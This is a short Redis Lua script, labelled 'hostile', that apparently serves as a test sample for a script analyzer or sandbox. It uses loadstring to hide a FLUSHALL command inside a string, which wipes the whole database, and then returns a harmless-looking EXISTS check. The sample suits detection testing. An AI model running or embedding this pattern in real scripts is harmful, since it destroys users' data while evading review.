---@script hostile.load_text
---@version 1
---Code in a string.
---@key data string `{name}`
---@return integer

loadstring("redis.call('FLUSHALL')")()
return redis.call('EXISTS', KEYS[1])
